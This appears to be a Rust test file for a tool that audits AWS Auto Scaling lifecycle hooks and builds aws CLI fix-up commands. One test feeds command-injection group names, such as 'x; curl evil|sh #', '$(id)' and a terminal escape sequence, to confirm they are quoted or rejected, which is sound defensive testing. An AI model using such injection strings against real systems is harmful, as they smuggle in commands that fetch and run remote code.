use spillway_core::hook_timeouts::HookTimeouts;
use spillway_core::replacement::GroupState;
use spillway_core::test_support::{settings, tags};

use super::super::groups::HookTransition;
use super::*;
use crate::report::CheckStatus;

pub(in crate::account) fn hook(name: &str) -> GroupHook {
    let timeout = Duration::from_secs(300);
    GroupHook {
        name: name.to_owned(),
        transition: HookTransition::Terminating,
        waits: HookTimeouts { timeout, total: timeout * 100 },
        default_result: LifecycleResult::Continue,
        notifies: None,
    }
}

pub(in crate::account) fn group(hooks: &[GroupHook]) -> Group {
    Group {
        name: "workers".to_owned(),
        cluster: ClusterName::new("prod"),
        managed_by: ManagedBy::SelfManaged,
        tags: tags(&[("team", "shop")]),
        keeps_abandoned: false,
        kept: Vec::new(),
        state: GroupState::default(),
        hooks: hooks.to_vec(),
    }
}

fn check(group: Group, variables: &[(&str, &str)]) -> Check {
    run_check(&[group], &ClusterName::new("prod"), &settings(variables), "us-east-1")
}

fn found(group: Group, variables: &[(&str, &str)]) -> Vec<(FindingId, Severity)> {
    check(group, variables).findings.into_iter().map(|finding| (finding.id, finding.severity)).collect()
}

#[test]
fn group_without_spillways_hook_is_found() {
    assert_eq!(found(group(&[hook("spillway")]), &[]), []);
    let launch = GroupHook { transition: HookTransition::Launching, ..hook("spillway") };
    let missing = [(FindingId::HookMissing, Severity::Fail)];
    assert_eq!(found(group(&[]), &[]), missing);
    assert_eq!(found(group(&[launch]), &[]), missing);
    assert_eq!(found(group(&[hook("other")]), &[("SPILLWAY_HOOKS", "spillway")]), missing);
}

/// Auto Scaling accepts any printable character in a group's name.
#[test]
fn group_name_is_one_word_of_the_command() {
    let named = |name: &str| Group { name: name.to_owned(), ..group(&[]) };
    let command = |name: &str| check(named(name), &[]).findings.remove(0).command;
    let of = |name: &str| command(name).unwrap().split(" --lifecycle").next().unwrap().to_owned();
    let put = "aws autoscaling put-lifecycle-hook --auto-scaling-group-name";
    assert_eq!(of("workers-a_1.x/y"), format!("{put} workers-a_1.x/y"));
    assert_eq!(of("x; curl evil|sh #"), format!("{put} 'x; curl evil|sh #'"));
    assert_eq!(of("$(id)`id`"), format!("{put} '$(id)`id`'"));
    assert_eq!(of("it's"), format!("{put} 'it'\"'\"'s'"));
    assert_eq!(command("x\u{1b}]52;c;evil\u{7}"), None, "a control character");
    assert_eq!(command("x\nid"), None);
}

#[test]
fn group_without_drained_nodes_needs_no_hook() {
    let check = run_check(&[], &ClusterName::new("prod"), &settings(&[]), "");
    assert_eq!((check.status, check.cluster.as_deref()), (CheckStatus::Ok, Some("prod")));
    assert_eq!(found(group(&[]), &[("SPILLWAY_MANAGED_TAG", "team=kitchen")]), []);
    assert_eq!(found(group(&[]), &[("SPILLWAY_MANAGED_TAG", "team=shop")]).len(), 1);
    assert_eq!(found(group(&[]), &[("SPILLWAY_DRAIN_ON", "spot")]), []);
    assert_eq!(found(Group { managed_by: ManagedBy::ManagedNodeGroup, ..group(&[]) }, &[]), []);
    assert_eq!(found(Group { cluster: ClusterName::new("other"), ..group(&[]) }, &[]), []);
}

#[test]
fn group_without_the_hook_tag_is_found_with_a_tag_command() {
    let tag = |tag| [("SPILLWAY_HOOK_GROUP_TAG", tag)];
    let untagged = [(FindingId::HookGroupUntagged, Severity::Fail)];
    assert_eq!(found(group(&[hook("spillway")]), &tag("team=shop")), []);
    assert_eq!(found(group(&[hook("spillway")]), &tag("team=kitchen")), untagged);
    assert_eq!(found(group(&[hook("spillway")]), &tag("drainer=shop")), untagged);
    assert_eq!(found(group(&[]), &tag("team=kitchen")), [(FindingId::HookMissing, Severity::Fail)]);
    let command = check(group(&[hook("spillway")]), &tag("a/b=c")).findings.remove(0).command.unwrap();
    assert!(command.ends_with("PropagateAtLaunch=false,Key=a/b,Value=c,ResourceId=workers"), "{command}");
}

#[test]
fn timeout_before_lambdas_retry_or_below_the_setting_is_found() {
    let waiting = |seconds| {
        let timeout = Duration::from_secs(seconds);
        GroupHook { waits: HookTimeouts { timeout, total: timeout * 100 }, ..hook("spillway") }
    };
    assert_eq!(found(group(&[waiting(59)]), &[]), [(FindingId::HookTimeoutShort, Severity::Warn)]);
    assert_eq!(found(group(&[waiting(60)]), &[]), []);
    let day = [("SPILLWAY_HOOK_MAX_WAIT_S", "86400")];
    assert_eq!(found(group(&[hook("spillway")]), &day), [(FindingId::HookWaitsShorterThanSet, Severity::Warn)]);
    assert_eq!(found(group(&[hook("spillway")]), &[("SPILLWAY_HOOK_MAX_WAIT_S", "30000")]), []);
}

#[test]
fn default_result_abandon_warns_only_beside_other_hooks() {
    let abandoned = GroupHook { default_result: LifecycleResult::Abandon, ..hook("spillway") };
    let found = |group| found(group, &[("SPILLWAY_HOOKS", "spillway")]);
    let alone = group(std::slice::from_ref(&abandoned));
    assert_eq!(found(alone.clone()), [(FindingId::HookDefaultAbandon, Severity::Info)]);
    assert_eq!(
        found(group(&[hook("dns"), abandoned])),
        [(FindingId::HookDefaultAbandon, Severity::Warn), (FindingId::HookLeftToOthers, Severity::Warn)]
    );
    assert_eq!(found(Group { keeps_abandoned: true, ..alone }), [], "a group that keeps instances");
}

#[test]
fn group_that_keeps_instances_needs_abandon() {
    let keeping = |hooks: &[GroupHook]| Group { keeps_abandoned: true, ..group(hooks) };
    assert_eq!(found(keeping(&[hook("spillway")]), &[]), [(FindingId::HookDefaultContinue, Severity::Warn)]);
    let missing = check(keeping(&[]), &[]).findings.remove(0);
    assert!(missing.command.unwrap().contains("--default-result ABANDON"));
    let abandoned = GroupHook { default_result: LifecycleResult::Abandon, ..hook("spillway") };
    let kept = Group { kept: vec!["i-1".to_owned()], ..keeping(&[abandoned]) };
    let finding = check(kept, &[]).findings.remove(0);
    assert_eq!((finding.id, finding.severity), (FindingId::InstanceKept, Severity::Warn));
    assert_eq!(
        finding.command.unwrap(),
        "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id i-1 \
         --no-should-decrement-desired-capacity --region us-east-1"
    );
}

#[test]
fn other_hook_is_found_and_the_hook_of_eks_is_not() {
    let notifying = GroupHook { notifies: Some("arn:aws:sqs:us-east-1:123456789012:dns".to_owned()), ..hook("dns") };
    let beside = |other| found(group(&[hook("spillway"), other]), &[]);
    assert_eq!(beside(hook("dns")), [(FindingId::HookLeftToOthers, Severity::Warn)]);
    assert_eq!(beside(notifying), [(FindingId::HookLeftToOthers, Severity::Info)]);
    assert_eq!(beside(hook("Terminate-LC-Hook")), []);
}

#[test]
fn name_of_no_group_is_found() {
    let unused = |groups: &[Group], hooks| {
        let check = unused(groups, &settings(&[("SPILLWAY_HOOKS", hooks)]));
        check.findings.into_iter().map(|finding| finding.object).collect::<Vec<_>>()
    };
    let groups = [group(&[hook("spillway")]), group(&[hook("drain")])];
    assert_eq!(unused(&groups, "spillway,drain,darin"), ["hook darin"]);
    assert_eq!(unused(&groups, "drain"), [""; 0]);
    assert_eq!(unused(&[], "spillway"), [""; 0], "the default");
}

#[test]
fn command_changes_only_the_faulty_value() {
    let commands = |group, hook_max_wait| {
        let check = check(group, &[("SPILLWAY_HOOK_MAX_WAIT_S", hook_max_wait)]);
        let command = |finding: Finding| {
            let command = finding.command.unwrap();
            let (_, set) = command.split_once("--heartbeat-timeout ").unwrap();
            format!("{:?}: {}", finding.id, set.strip_suffix(" --region us-east-1").unwrap())
        };
        check.findings.into_iter().map(command).collect::<Vec<_>>()
    };
    assert_eq!(commands(group(&[]), "3600"), ["HookMissing: 600 --default-result CONTINUE"]);
    let abandoned = GroupHook { default_result: LifecycleResult::Abandon, ..hook("spillway") };
    assert_eq!(
        commands(group(&[abandoned]), "86400"),
        ["HookWaitsShorterThanSet: 864 --default-result ABANDON", "HookDefaultAbandon: 300 --default-result CONTINUE"]
    );
}
